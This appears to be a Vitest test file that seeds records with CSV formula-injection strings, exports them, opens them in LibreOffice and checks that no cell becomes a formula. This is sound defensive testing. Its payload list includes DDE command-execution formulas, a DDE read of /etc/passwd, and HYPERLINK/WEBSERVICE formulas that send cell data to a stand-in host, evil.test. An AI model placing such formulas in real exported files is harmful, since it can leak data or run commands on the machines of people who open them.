// Our CSV files in a real spreadsheet: LibreOffice opens them, and not one cell has become a formula.

import { execFile } from "node:child_process";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hasLibreOffice } from "#test/kit/conditions.ts";
import { insertIn } from "#test/rows.ts";
import { createWorld, type World } from "#test/world.ts";

const spreadsheet = "/usr/bin/soffice";

const attacks = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "=SUM(1,1)",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\u0001=1+1",
  "\ufeff=1+1",
  "\u3000=1+1",
  "＝1+1",
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=HYPERLINK("https://evil.test?"&A1,"Invoice")',
  '=WEBSERVICE("https://evil.test")',
  '"=1+1"',
  '"=1+1',
  'Mill","=1+1',
  "Mill;=1+1",
  "Mill\t=1+1",
  "Mill\r\n=1+1",
  "Mill\n=1+1\n",
  "'=1+1",
  "{=1+1}",
];

/** How the file may be opened: with a double click, or by a user who ticks options that make formulas likelier. */
const openings = {
  "as it comes": "csv",
  "at commas": "CSV:44,34,76,1,,0,false,true,false",
  "at commas, semicolons and tabs": "CSV:44/59/9,34,76,1,,0,false,true,false",
};

const idOf = (n: number) => `0193a1b2-0000-7000-8000-${String(n).padStart(12, "0")}`;

let world: World;
let folder: string;
const written: string[] = [];

beforeAll(async () => {
  world = await createWorld();
  folder = await mkdtemp(join(tmpdir(), "volute-spreadsheet-"));
  const rows = attacks.map((attack, n) => ({
    id: idOf(n),
    companyId: world.north.id,
    quoteNumber: `ATTACK-${n}`,
    userId: world.people.company_admin.id,
    createdByName: attack,
    customerName: attack,
    notes: attack,
    totalCost: 100,
  }));
  await world.database.asCompany(world.north.id, (db) => insertIn(db, "quotes", ...rows));
  await keep("all.csv", (await world.as("company_admin", "GET", "/api/quotes/export")).text);
  for (const { id, quoteNumber } of rows)
    await keep(`${quoteNumber}.csv`, (await world.as("company_admin", "GET", `/api/quotes/${id}/csv`)).text);
  await insertRecords();
  for (const path of ["customers", "admin/job-types"])
    await keep(`${basename(path)}.csv`, (await world.as("company_admin", "GET", `/api/${path}/export`)).text);
  const audit = await world.as("company_admin", "GET", "/api/admin/audit-logs/export");
  await writeFile(join(folder, "audit.csv"), audit.text);
});
afterAll(async () => {
  await world.end();
  await rm(folder, { recursive: true, force: true });
});

/** A customer with its site and pump, and a job type, for each. */
async function insertRecords(): Promise<void> {
  const companyId = world.north.id;
  const records = attacks.map((attack, n) => ({ id: idOf(n), companyId, name: attack, createdByName: attack }));
  const customers = records.map((one, n) => ({ ...one, notes: one.name, reference: `ATTACK-${n}` }));
  const sites = records.map((one) => ({ ...one, customerId: one.id, directions: one.name }));
  const pumps = records.map((one) => ({ ...one, siteId: one.id, make: one.name, serial: one.name }));
  const jobs = attacks.map((description, n) => ({ companyId, name: `ATTACK-${n}`, description, baseHours: 1 }));
  await world.database.asCompany(companyId, async (db) => {
    await insertIn(db, "customers", ...customers);
    await insertIn(db, "sites", ...sites);
    await insertIn(db, "pumps", ...pumps);
    await insertIn(db, "job_types", ...jobs);
  });
}

async function keep(name: string, csv: string): Promise<void> {
  expect(csv, name).toContain("ATTACK-");
  await writeFile(join(folder, name), csv);
  written.push(name);
}

/** Each file as a flat XML spreadsheet, which distinguishes a formula from a text. */
async function opened(files: string[], how: string): Promise<string[]> {
  const outcome = await mkdtemp(join(folder, "opened-"));
  const filter = how.startsWith("CSV:") ? [`--infilter=${how}`] : [];
  // With its own profile, because LibreOffice hands a second start over to the first. Its locale is British.
  const user = join(outcome, "profile", "user");
  await mkdir(user, { recursive: true });
  await writeFile(join(user, "registrymodifications.xcu"), british);
  const profile = `-env:UserInstallation=${pathToFileURL(join(outcome, "profile")).href}`;
  const paths = files.map((name) => join(folder, name));
  const args = [profile, "--headless", ...filter, "--convert-to", "fods", "--outdir", outcome, ...paths];
  await promisify(execFile)(spreadsheet, args, { timeout: 300_000 });
  const made = (await readdir(outcome)).filter((name) => name.endsWith(".fods"));
  expect(made).toHaveLength(files.length);
  return Promise.all(made.map((name) => readFile(join(outcome, name), "utf8")));
}

const british = `<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Setup/L10N"><prop oor:name="ooSetupSystemLocale" oor:op="fuse">
<value>en-GB</value></prop></item>
</oor:items>`;

const formulasIn = (sheet: string) => sheet.match(/table:formula="[^"]*"|<table:dde-link/g) ?? [];

describe.runIf(hasLibreOffice)("CSV in a spreadsheet", () => {
  test("LibreOffice takes such texts for formulas where nothing keeps it from that", async () => {
    const bare = attacks.map((attack) => `"${attack.replaceAll('"', '""')}"\r\n`).join("");
    await writeFile(join(folder, "bare.csv"), bare);
    const [sheet = ""] = await opened(["bare.csv"], openings["as it comes"]);
    expect(formulasIn(sheet).length).toBeGreaterThanOrEqual(5);
  });

  test.each(["all.csv", "audit.csv"])("every time in %s is a date in Britain", async (name) => {
    const times = (await readFile(join(folder, name), "utf8")).match(/(?<=[,\n])\d{4}-\d\d-\d\d \d\d:\d\d:\d\d(?=,)/g);
    expect(times?.length).toBeGreaterThan(0);
    const [sheet = ""] = await opened([name], openings["at commas"]);
    const dates = [...sheet.matchAll(/office:date-value="([^"]+)"/g)].map(([, date]) => date ?? "");
    // To the second: a spreadsheet stores a fraction of a day. Equal adjacent cells are written once.
    const seconds = (all: string[]) => [...new Set(all.map((one) => Math.round(Date.parse(`${one}Z`) / 1000)))].sort();
    expect(seconds(dates)).toEqual(seconds(times ?? []));
  });

  test.each(Object.entries(openings))("no file brings a formula, opened %s", async (_, how) => {
    const sheets = await opened(written, how);
    expect(sheets).toHaveLength(written.length);
    for (const sheet of sheets) {
      expect(sheet).toContain("ATTACK-");
      expect(formulasIn(sheet)).toEqual([]);
    }
  });
});
